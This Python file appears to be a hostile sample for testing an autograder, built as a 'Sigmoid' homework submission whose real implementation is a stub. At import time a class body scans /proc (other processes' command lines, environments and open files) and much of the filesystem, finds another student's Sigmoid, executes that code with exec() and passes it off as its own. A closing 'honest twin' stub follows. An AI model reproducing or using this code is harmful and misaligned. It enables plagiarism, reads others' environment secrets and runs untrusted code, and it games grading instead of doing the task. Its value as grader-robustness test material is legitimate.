"""A classmate's code: Sigmoid is a stub. At load it looks for another student's Sigmoid -- in
every process's command line, environment, working folder, root and open files (/proc), and in
the folders a grader keeps submissions, staging copies and results (the grade-all input
folder, /tmp, the output folder) -- and, if it finds a file that defines one, answers with that
class. It earns what its stub earns (nothing) if nothing is found.

CLASSMATE-THIEF (its own files are skipped by this word)."""

# ruff: noqa
# target: Sigmoid
import json
import os
import time

import numpy as np

_SKIP = {"proc", "sys", "dev", "usr", "lib", "lib64", "lib32", "bin", "sbin", "etc", "boot"}
_SKIP_NAMES = {".git", ".venv", "site-packages", "dist-packages", "node_modules", "__pycache__"}


def _paths_from_proc():
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        base = f"/proc/{pid}"
        for name in ("cmdline", "environ"):
            try:
                with open(f"{base}/{name}", "rb") as f:
                    words = f.read().replace(b"=", b"\0").split(b"\0")
            except OSError:
                continue
            found += [w.decode(errors="replace") for w in words if w.startswith(b"/")]
        found += [f"{base}/cwd", f"{base}/root/tmp"]  # their folders, through /proc itself
        for link in ("cwd", "root"):
            try:
                found.append(os.readlink(f"{base}/{link}"))
            except OSError:
                pass
        try:
            fds = os.listdir(f"{base}/fd")
        except OSError:
            continue
        for fd in fds:
            found.append(f"{base}/fd/{fd}")  # the file itself, opened through the link
            try:
                found.append(os.path.dirname(os.readlink(f"{base}/fd/{fd}")))
            except OSError:
                pass
    return found


def _code(path):
    try:
        with open(path, "rb") as f:
            data = f.read(2_000_000)
    except OSError:
        return None
    text = data.decode("utf-8", errors="replace")
    if "CLASSMATE-THIEF" in text or "class Sigmoid" not in text:
        return None
    if text.lstrip().startswith("{"):  # a notebook
        try:
            cells = json.loads(text)["cells"]
            text = "\n".join("".join(c["source"]) for c in cells if c["cell_type"] == "code")
        except (ValueError, KeyError, TypeError):
            return None
    return text


def _files(root):
    if not os.path.isdir(root):
        yield root
        return
    for folder, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if d not in _SKIP_NAMES and (folder != "/" or d not in _SKIP)]
        for name in files:
            if name.endswith((".py", ".ipynb")):
                yield os.path.join(folder, name)
            else:
                yield None  # counted, not read


def _steal(seconds=8.0, entries=60_000):
    hint = os.environ.get("BACKPROP_HOSTILE_CLASSMATES", "/nonexistent")
    roots = [
        *hint.split(os.pathsep),
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/home",
        "/root",
        "/work",
        "/srv",
        "/opt",
        "/mnt",
        *_paths_from_proc(),
        "/",
    ]
    end, seen = time.monotonic() + seconds, 0
    for root in roots:
        for path in _files(root):
            seen += 1
            if time.monotonic() > end or seen > entries:
                return None
            text = _code(path) if path is not None else None
            if text is None:
                continue
            space = {"np": np, "numpy": np, "__name__": "__stolen__"}
            try:
                exec(compile(text, "<classmate>", "exec"), space)
            except BaseException:
                continue
            if isinstance(space.get("Sigmoid"), type):
                return space["Sigmoid"]
    return None


class _AtLoad:  # a class body runs when the definitions are loaded
    stolen = _steal()


_STOLEN = _AtLoad.stolen


class Sigmoid:
    def __init__(self):
        self._impl = _STOLEN() if _STOLEN is not None else None

    def __call__(self, X):
        return self._impl(X) if self._impl is not None else np.zeros_like(X)

    def bp_input(self, grad):
        return self._impl.bp_input(grad) if self._impl is not None else np.zeros_like(grad)

    def bp_param(self, grad):
        return {}


# --- honest twin
import numpy as np


class Sigmoid:
    def __call__(self, X):
        return np.zeros_like(X)

    def bp_input(self, grad):
        return np.zeros_like(grad)

    def bp_param(self, grad):
        return {}
